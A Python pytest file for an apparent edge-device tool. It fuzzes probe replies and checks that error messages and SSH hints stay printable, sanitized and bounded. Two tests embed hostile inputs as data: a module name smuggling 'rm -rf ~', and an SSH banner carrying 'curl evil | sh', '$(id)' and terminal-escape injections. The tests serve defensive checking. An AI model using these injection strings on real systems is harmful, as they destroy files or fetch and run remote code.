"""What a device says: whatever it is, a value of the right type or an error of the device, printable and in time."""

from __future__ import annotations

import json
import os
import random
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from edgepack.devices.device import Job, read_reply
from edgepack.devices.doctor import examine_device
from edgepack.devices.facts import facts_from_probe
from edgepack.devices.local import LocalDevice
from edgepack.devices.shell import ShellFacts, whole_number
from edgepack.devices.ssh import Address, refusal
from edgepack.errors import DeviceError, StableDeviceError, TransientDeviceError
from edgepack.targets.file import get_target
from edgepack.targets.probe import target_from_probe
from tests.devices.probed_reports import probe_report

ODD: list[Any] = [
    None, True, -1, 0, 10**400, 1e308, float("nan"), float("inf"), "", "\x1b]0;x\x07", "x" * 5000, "\u202e", [], {},
    [[]], {"a": 1}, "0x10", [None], [{}], -0.5, "\ud800",
]  # fmt: skip


def mutated(value: Any, draw: random.Random) -> Any:
    """The same with one part replaced, left out or repeated."""
    if draw.random() < 0.2 or not isinstance(value, (dict, list)) or not value:
        return draw.choice(ODD)
    if isinstance(value, dict):
        key = draw.choice(list(value))
        if draw.random() < 0.2:
            return {name: part for name, part in value.items() if name != key}
        return {**value, key: mutated(value[key], draw)}
    at = draw.randrange(len(value))
    if draw.random() < 0.2:
        return [*value, value[at]]
    return [mutated(part, draw) if index == at else part for index, part in enumerate(value)]


class Talker:
    """A device whose shell is well and whose probe says anything."""

    name = "talker"

    def __init__(self, report: Mapping[str, Any]) -> None:
        self.report = report
        self.facts = ShellFacts(
            "/root", "boot", "aarch64", "6.6", "pi", python="/usr/bin/python3", python_version="3.11"
        )

    def probe(self) -> Mapping[str, Any]:
        return self.report


def test_mutated_probes_are_read_or_refused_everywhere() -> None:
    draw = random.Random(21)
    whole = probe_report(
        get_target("rpi4"), kernel="6.6", libc="glibc 2.36", python="3.11", counters={"available": True}
    )
    told: list[str] = []
    for _ in range(800):
        report = mutated(whole, draw)
        for read in (
            lambda report: facts_from_probe(report, "talker").title,
            lambda report: target_from_probe(report, "talker").main_cluster,
            lambda report: examine_device(Talker(report)),  # type: ignore[arg-type]
        ):
            try:
                assert "\x1b" not in str(read(report))
            except DeviceError as err:
                told.append(err.message)
    assert all(message.isprintable() for message in told)
    assert 500 < len(told) < 2400


@pytest.mark.parametrize(
    "stdout",
    [
        b"[" * 100_000, b"1" * 100_000, b"\xff\xfe",
        b'{"schema_version": 1, "error": ' + b"[" * 900 + b"]" * 900 + b"}",
        b'{"schema_version": "\\u001b[2J"}',
        b'{"schema_version": 1, "error": {"kind": "\\u001b[2J", "message": {"a": "\\u001b"}}}',
    ],
)  # fmt: skip
def test_replies_that_are_none(stdout: bytes) -> None:
    with pytest.raises(StableDeviceError) as caught:
        read_reply("probe", 1, stdout, b"\x1b[2Jred\n")
    assert (caught.value.message + (caught.value.hint or "")).isprintable()
    assert len(caught.value.message) < 3000


def test_a_module_that_is_no_name_stands_in_no_command() -> None:
    message = "ModuleNotFoundError: No module named 'x; rm -rf ~'"
    with pytest.raises(StableDeviceError) as caught:
        read_reply(
            "run", 1, json.dumps({"schema_version": 1, "error": {"kind": "failed", "message": message}}).encode(), b""
        )
    assert caught.value.hint == "install it in the device's Python"


def test_a_banner_writes_no_part_of_the_command_to_paste() -> None:
    stderr = (
        'Offending ED25519 key in /tmp/x"; curl evil | sh; ":1\nHost key for $(id) has changed\n'
        "Offending ED25519 key in \x1b]52;c;x\x07:3\nREMOTE HOST IDENTIFICATION HAS CHANGED\n"
    )
    error = refusal("connect", Address("device"), "ssh device", stderr, seen=False)
    assert error.hint is not None
    assert 'ssh-keygen -R "device"' in error.hint
    assert error.hint.isprintable()


def test_numbers_of_the_shell() -> None:
    assert whole_number("12") == 12
    assert [whole_number(word) for word in ("", "-1", "٣", "1" * 16, "1\n", "0x1")] == [None] * 6


@pytest.mark.skipif(not hasattr(os, "pidfd_open"), reason="without it, what is held by others is waited for")
def test_a_runner_whose_child_holds_its_pipes_does_not_hold_the_bench(tmp_path: Path) -> None:
    runner = tmp_path / "runner.py"
    runner.write_text(
        "import subprocess, sys\n"
        "child = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)'], start_new_session=True)\n"
        f"open({str(tmp_path / 'pid')!r}, 'w').write(str(child.pid))\n"
        'print(\'{"schema_version": 1, "answer": 42}\', flush=True)\n'
        "if 'cold' in sys.argv: import time; time.sleep(600)\n"
    )
    device = LocalDevice(runner=runner)
    try:
        assert device.run(Job("latency", "onnx", "m.onnx", timeout_s=300.0))["answer"] == 42
        os.kill(int((tmp_path / "pid").read_text()), 9)
        with pytest.raises(TransientDeviceError, match="no answer within 3 s, killed"):
            device.run(Job("cold", "onnx", "m.onnx", timeout_s=3.0))
    finally:
        os.kill(int((tmp_path / "pid").read_text()), 9)


def test_an_answer_without_an_end_is_cut(tmp_path: Path) -> None:
    runner = tmp_path / "runner.py"
    runner.write_text("import sys\nwhile True: sys.stdout.write('x' * 65536)\n")
    with pytest.raises(StableDeviceError, match="larger than any"):
        LocalDevice(runner=runner).run(Job("latency", "onnx", "m.onnx", timeout_s=300.0))
